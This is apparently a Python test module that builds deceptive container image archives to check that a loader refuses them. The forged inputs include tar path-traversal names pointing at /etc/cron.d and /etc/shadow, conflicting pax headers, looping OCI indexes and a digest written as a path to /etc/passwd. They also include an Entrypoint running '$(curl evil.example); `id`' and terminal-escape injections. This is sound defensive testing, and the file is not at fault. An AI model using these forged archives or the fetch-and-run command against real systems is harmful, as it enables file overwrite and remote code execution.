"""Cases 81-88: image archives in which two readers would see two things, or that are more than they seem."""

from __future__ import annotations

import gzip
import json
import tarfile
from collections.abc import Callable
from dataclasses import replace

from fairnode.algorithms.archive import read_archive
from fairnode.algorithms.manifest import read_manifest
from tests.hostile.case import ROOT, Outcome, Target, case, contained
from tests.hostile.forge import (
    MACHINE,
    config,
    digest,
    docker_archive,
    layer,
    member,
    oci_archive,
    oci_blobs,
    oci_folder,
    tar,
)
from tests.hostile.images import archive, built, loaded, spec_of, told

GREETING = member("etc/greeting", b"hello")
EVIL = "../../etc/cron.d/evil"


def _pax(**records: str) -> bytes:
    """A pax header with these records, for the member that follows."""
    told = b"".join(_record(f"{key}={value}\n".encode()) for key, value in records.items())
    return _raw("PaxHeaders/x", told, tarfile.XHDTYPE)


def _record(text: bytes) -> bytes:
    size = len(text) + 1
    while len(str(size)) + 1 + len(text) != size:
        size = len(str(size)) + 1 + len(text)
    return b"%d %s" % (size, text)


def _raw(name: str, content: bytes = b"", kind: bytes = tarfile.REGTYPE, **changes: object) -> bytes:
    """One member as bytes, nothing smoothed over."""
    info, _ = member(name, content, type=kind, **changes)
    return info.tobuf(tarfile.USTAR_FORMAT) + content + bytes(-len(content) % 512)


def _long(name: str) -> bytes:
    """GNU's way to give the next member a long name."""
    return _raw("././@LongLink", name.encode() + b"\0", tarfile.GNUTYPE_LONGNAME)


def _v7(name: str, content: bytes) -> bytes:
    """A member of the oldest kind, whose name ends with a slash: a file to some readers, a folder to others."""
    return _raw(name, content, tarfile.AREGTYPE)


def _negative() -> bytes:
    """A header, whole in itself, with a size of -1 in base 256."""
    header = bytearray(_raw("x"))
    header[124:136], header[148:156] = b"\xff" * 12, b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


END = bytes(1024)
DEVICE_INSIDE = _raw("dev/disk", kind=tarfile.BLKTYPE, devmajor=254)
PATH_TOLD_TWICE = {
    "a long name and a pax path that disagree": _long(EVIL) + _pax(path="etc/motd") + _raw("etc/motd"),
    "two pax headers for one member": _pax(path=EVIL) + _pax(mtime="1") + _raw("etc/motd"),
    "a pax record twice": _raw(
        "PaxHeaders/x", _record(b"path=etc/motd\n") + _record(f"path={EVIL}\n".encode()), tarfile.XHDTYPE
    )
    + _raw("etc/motd"),
}
ODD_ENTRIES = {
    "a pax path that leads out": _pax(path=EVIL) + _raw("etc/motd"),
    "a pax link that leads out": _pax(linkpath="../../etc/shadow")
    + _raw("x", kind=tarfile.LNKTYPE, linkname="y"),
    "a long name that leads out": _long(EVIL) + _raw("etc/motd"),
    "a pax header for the whole archive": _raw("g", _record(b"path=evil\n"), tarfile.XGLTYPE) + _raw("x"),
    "a sparse file of the old kind": _raw("sparse", kind=tarfile.GNUTYPE_SPARSE),
    "a sparse file of the new kind": _pax(**{"GNU.sparse.major": "1", "GNU.sparse.name": "x"}) + _raw("x"),
    "a file for contiguous disks": _raw("x", kind=tarfile.CONTTYPE),
    "a size below nought": _negative(),
    "a member that is a folder to one reader and a file to another": _v7("etc/", DEVICE_INSIDE),
    "an empty name": _pax(path="") + _raw("x"),
    "a name of a thousand letters in one part": _long("x" * 1000) + _raw("x"),
    "a path of ten thousand folders": _long("a/" * 10_000) + _raw("x"),
    **PATH_TOLD_TWICE,
}
WHITEOUTS = {
    "a whiteout of nothing": ".wh.",
    "a whiteout of the folder itself": "etc/.wh..",
    "a whiteout of the folder above": "etc/.wh...",
    "a whiteout of a whiteout": "etc/.wh..wh.greeting",
    "a whiteout of the store's own names": ".wh..wh.plnk/1",
}


def _with_entry(target: Target, entry: bytes) -> Outcome:
    start = tar([GREETING]).rstrip(b"\0")
    one = start + bytes(-len(start) % 512) + entry + END
    return archive(target, one)


def _add_entries() -> None:
    for name, entry in ODD_ENTRIES.items():
        case(81, f"in a layer: {name}", "refused")(lambda t, e=entry: _with_entry(t, e))
    for name, path in WHITEOUTS.items():
        case(82, name, "refused")(lambda t, p=path: archive(t, layer(member(p))))
    case(82, "a whiteout that is a link", "refused")(
        lambda t: archive(t, layer(member("etc/.wh.x", type=tarfile.SYMTYPE, linkname="/")))
    )
    case(82, "a whiteout with a message in it", "refused")(
        lambda t: archive(t, layer(member("etc/.wh.x", b"records")))
    )


_add_entries()


@case(83, "the layers in another order than the configuration says", "refused")
def swapped_layers(target: Target) -> Outcome:
    one, two = layer(member("one", b"1")), layer(member("two", b"2"))
    return archive(target, one, two, about=config(two, one))


@case(83, "one layer told of twice, given once", "refused")
def layer_short(target: Target) -> Outcome:
    return archive(target, layer(), about=config(layer(), layer()))


@case(83, "a file where another layer has a folder: the engine itself cannot unpack it", "refused")
def file_and_folder(target: Target) -> Outcome:
    return archive(target, layer(member("a", b"x"), member("a/b", b"x")))


@case(83, "two images in one archive", "refused")
def two_images(target: Target) -> Outcome:
    def twice(members: list) -> list:
        (entry,) = json.loads(members[-1][1])
        return [*members[:-1], member("manifest.json", json.dumps([entry, entry]).encode())]

    return archive(target, change=twice)


@case(83, "a layer packed with zstd, which the engine may unpack otherwise", "refused")
def zstd(target: Target) -> Outcome:
    body = bytes.fromhex("28b52ffd2400010000")
    return archive(target, change=lambda m: [member(m[0][0].name, body), *m[1:]])


@case(83, "something behind the end of a packed layer", "refused")
def behind_the_end(target: Target) -> Outcome:
    body = gzip.compress(layer()) + gzip.compress(tar([member("evil", b"x")]))
    return archive(target, change=lambda m: [member(m[0][0].name, body), *m[1:]])


def _oci(target: Target, change: Callable[[dict[str, bytes]], None], *layers: bytes) -> Outcome:
    files = oci_blobs(*layers)
    change(files)
    path = oci_archive(target.folder / "forged.tar", files)
    return told(lambda: target.engine.load_image(path))


def _index(files: dict[str, bytes], content: object) -> None:
    files["index.json"] = json.dumps(content).encode()


def _descriptor(content: bytes, **more: object) -> dict:
    return {"digest": f"sha256:{digest(content)}", "size": len(content), **more}


def _add_blob(files: dict[str, bytes], content: object) -> dict:
    body = json.dumps(content).encode()
    files[f"blobs/sha256/{digest(body)}"] = body
    return _descriptor(body)


def _manifest(files: dict[str, bytes]) -> dict:
    (one,) = json.loads(files["index.json"])["manifests"]
    return json.loads(files["blobs/sha256/" + one["digest"][7:]])


def _nested(files: dict[str, bytes]) -> None:
    inner = json.loads(files["index.json"])["manifests"][0]
    for _ in range(50):
        inner = _add_blob(files, {"schemaVersion": 2, "manifests": [inner]})
    _index(files, {"schemaVersion": 2, "manifests": [inner]})


def _loop(files: dict[str, bytes]) -> None:
    _index(files, {"schemaVersion": 2, "manifests": [_descriptor(files["index.json"])]})


def _foreign(files: dict[str, bytes]) -> None:
    told = _manifest(files)
    files.pop("blobs/sha256/" + told["layers"][0]["digest"][7:])
    told["layers"][0]["urls"] = ["https://evil.example/layer"]
    _index(files, {"schemaVersion": 2, "manifests": [_add_blob(files, told)]})


def _both(files: dict[str, bytes]) -> None:
    told = _manifest(files)
    evil = {**told, "layers": []}
    both = {**told, "manifests": [_add_blob(files, evil)]}
    _index(files, {"schemaVersion": 2, "manifests": [_add_blob(files, both)]})


def _other_digest(files: dict[str, bytes]) -> None:
    told = json.loads(files["index.json"])
    told["manifests"][0]["digest"] = "sha512:" + "0" * 128
    _index(files, told)


def _out_of_blobs(files: dict[str, bytes]) -> None:
    told = json.loads(files["index.json"])
    told["manifests"][0]["digest"] = "sha256:../../../etc/passwd"
    _index(files, told)


def _changed_manifest(files: dict[str, bytes]) -> None:
    (one,) = json.loads(files["index.json"])["manifests"]
    files["blobs/sha256/" + one["digest"][7:]] += b" "


INDEXES = {
    "an index in fifty indexes": _nested,
    "an index that names itself": _loop,
    "a layer to be fetched from the internet": _foreign,
    "a document that is an index to one reader and a manifest to another": _both,
    "a digest of another kind": _other_digest,
    "a digest that is a path": _out_of_blobs,
    "a manifest that is not what its digest says": _changed_manifest,
    "layers that are no list": lambda files: _index(
        files, {"manifests": [_add_blob(files, {**_manifest(files), "layers": "all"})]}
    ),
    "manifests that are a number": lambda files: _index(files, {"manifests": 5}),
    "descriptors that are no objects": lambda files: _index(files, {"manifests": ["x"]}),
}


def _add_indexes() -> None:
    for name, change in INDEXES.items():
        case(84, name, "refused")(lambda t, c=change: _oci(t, c))


_add_indexes()


@case(84, "a symlink among the blobs of a folder", "refused")
def linked_blob(target: Target) -> Outcome:
    folder = oci_folder(target.folder / "layout", oci_blobs())
    blob = max((folder / "blobs/sha256").iterdir())
    blob.rename(target.folder / "elsewhere")
    blob.symlink_to(target.folder / "elsewhere")
    return told(lambda: target.engine.load_image(folder))


def _told_by(about: str | bytes) -> Callable[[list], list]:
    body = about if isinstance(about, bytes) else about.encode()
    return lambda members: [*members[:-2], member("config.json", body), members[-1]]


def _plain() -> str:
    return json.dumps(config(layer()))


CONFIGS: dict[str, Callable[[], str | bytes]] = {
    "a configuration of ten megabytes of labels": lambda: json.dumps(
        config(layer(), Labels={f"l{n}": "x" * 1000 for n in range(10_000)})
    ),
    "a setting twice in the configuration": lambda: _plain().replace(
        '"Entrypoint"', '"Entrypoint": ["/bin/sh"], "Entrypoint"', 1
    ),
    "a configuration in another encoding": lambda: _plain().encode("utf-16"),
    "a configuration with broken letters": lambda: _plain().encode().replace(b"/bin/true", b"/bin/\xff"),
    "half a character in the command": lambda: _plain().replace("/bin/true", "/bin/\\ud800"),
    "a nought in the command": lambda: _plain().replace("/bin/true", "/bin/true\\u0000"),
    "half a character in the user": lambda: json.dumps(config(layer(), User="\ud800")),
    "a number of a hundred thousand digits": lambda: _plain().replace("{", '{"x": ' + "9" * 100_000 + ",", 1),
    "colours of the terminal in ENV": lambda: json.dumps(config(layer(), Env=["A=\x1b[2J"])),
    "ENV without a name": lambda: json.dumps(config(layer(), Env=["=x"])),
    "a line break in the folder": lambda: json.dumps(config(layer(), WorkingDir="/a\n/proc")),
}


def _add_configs() -> None:
    for name, make in CONFIGS.items():
        case(85, name, "refused")(lambda t, m=make: archive(t, change=_told_by(m())))


_add_configs()


@case(86, "EXPOSE, STOPSIGNAL, labels and a shell form in the archive")
def settings_dropped(target: Target) -> Outcome:
    about = config(
        layer(),
        ExposedPorts={"22/tcp": {}}, StopSignal="SIGUSR1", ArgsEscaped=True, Shell=["/bin/evil"],
        Labels={"fairnode.node": target.engine.node}, MacAddress="02:42:ac:11:00:02", NetworkDisabled=False,
        Entrypoint=["/bin/sh", "-c", "$(curl evil.example); `id`"],
    )  # fmt: skip
    path = docker_archive(target.folder / "settings.tar", about=about)
    image = target.engine.load_image(path)
    found = target.engine.daemon.image(image.image_id)["Config"]
    kept = [key for key in ("ExposedPorts", "StopSignal", "ArgsEscaped", "Shell", "Labels") if found.get(key)]
    loaded(target, path)
    return contained(not kept, "none of them reached the engine; the manifest alone says what is started")


@case(86, "EXPOSE in an image that came to the engine another way", "refused")
def exposed(target: Target) -> Outcome:
    client, tag = built(target, "EXPOSE 22")
    spec = replace(spec_of(target, tag), identity=target.engine.identity(tag))
    try:
        return told(lambda: target.engine.prepare(spec))
    finally:
        target.engine.remove(spec.visit_id)
        client.remove_image(tag)
        client.close()


@case(87, "names of packages with commands for the terminal and markup for a page", "contained")
def package_names(target: Target) -> Outcome:
    status = b"Package: \x1b]0;evil\x07<script>\nStatus: install ok installed\nVersion: \xe2\x80\xae1\n"
    one = layer(member("var/lib/dpkg/status", status))
    found = read_archive(docker_archive(target.folder / "p.tar", one), MACHINE).packages
    odd = [p for p in found if not (p.name + p.version).isprintable()]
    return contained(not odd and bool(found), f"kept as {found[0].name!r} {found[0].version!r}")


MANIFEST = (ROOT / "algorithms/counts/algorithm.toml").read_text(encoding="utf-8")
TEXTS = {
    "commands for the terminal": r"Counts\u001B[2J\u001B]0;evil\u0007",
    "text that turns its direction": r"Counts \u202Egnihton",
    "invisible letters": r"Cou\u200Bnts",
    "a line break": r"Counts\nApproved by counsel",
}


def _add_texts() -> None:
    for name, text in TEXTS.items():
        body = MANIFEST.replace('title = "Counts by any variables"', f'title = "{text}"').encode()
        case(88, f"a title with {name} in algorithm.toml", "refused")(
            lambda _, b=body: told(lambda: read_manifest(b))
        )


_add_texts()
